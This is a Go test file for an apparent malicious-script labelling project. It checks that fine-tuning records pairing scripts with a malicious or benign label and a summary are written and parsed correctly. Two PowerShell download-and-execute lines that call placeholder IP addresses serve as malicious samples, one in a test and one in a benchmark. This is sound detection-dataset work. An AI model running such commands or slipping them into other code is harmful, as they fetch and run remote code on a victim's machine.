package loop

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/learning/dataset"
)

func TestSFTRecordFormat(t *testing.T) {
	script := []byte("Invoke-WebRequest -Uri http://203.0.113.5/p.ps1 | IEX\n\xff\xfe")
	rec, err := NewSFTRecord(script, "powershell", dataset.Malicious, "Downloads and runs a script.", 0)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := WriteSFT(&buf, []SFTRecord{rec, rec}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 {
		t.Fatalf("got %d lines, want 2", len(lines))
	}
	var got struct {
		Messages []struct{ Role, Content string } `json:"messages"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &got); err != nil {
		t.Fatalf("line is not JSON: %v", err)
	}
	roles := []string{}
	for _, m := range got.Messages {
		roles = append(roles, m.Role)
	}
	if strings.Join(roles, ",") != "system,user,assistant" {
		t.Errorf("roles: got %v, want system,user,assistant", roles)
	}
	if !strings.Contains(got.Messages[1].Content, "Invoke-WebRequest -Uri http://203.0.113.5/p.ps1 | IEX") {
		t.Errorf("user turn lacks the script: %q", got.Messages[1].Content)
	}
	var ans map[string]any
	if err := json.Unmarshal([]byte(got.Messages[2].Content), &ans); err != nil {
		t.Fatalf("assistant content is not JSON: %v", err)
	}
	if ans["language"] != "powershell" || ans["label"] != float64(1) || ans["summary"] != "Downloads and runs a script." || len(ans) != 3 {
		t.Errorf("answer: got %v, want language powershell, label 1, the summary", ans)
	}
	ben, err := NewSFTRecord([]byte("echo hello"), "bash", dataset.Benign, "Prints a greeting.", 4)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(ben.Messages[2].Content, `"label":0`) || strings.Contains(ben.Messages[1].Content, "hello") {
		t.Errorf("benign record: label or cut wrong: %+v", ben.Messages[1:])
	}
	for name, tc := range map[string]struct {
		label   dataset.Label
		summary string
	}{"no label": {"", "x"}, "no summary": {dataset.Benign, " "}} {
		if _, err := NewSFTRecord([]byte("x"), "bash", tc.label, tc.summary, 0); err == nil {
			t.Errorf("%s: got no error", name)
		}
	}
}

func TestKeptRoundTrip(t *testing.T) {
	in := []Kept{{Round: 1, SHA256: "ab", Where: "/x", Language: "bash", Label: dataset.Benign, Confidence: 0.97, Summary: "s"}}
	var buf bytes.Buffer
	if err := WriteKept(&buf, in); err != nil {
		t.Fatal(err)
	}
	out, err := ReadKept(&buf)
	if err != nil || len(out) != 1 || out[0] != in[0] {
		t.Errorf("got %+v (%v), want %+v", out, err, in)
	}
}

func BenchmarkFingerprint(b *testing.B) {
	data := bytes.Repeat([]byte("$c = New-Object Net.WebClient; $c.DownloadString('http://203.0.113.7/a') | IEX\n"), 64)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		FingerprintOf(data)
	}
}
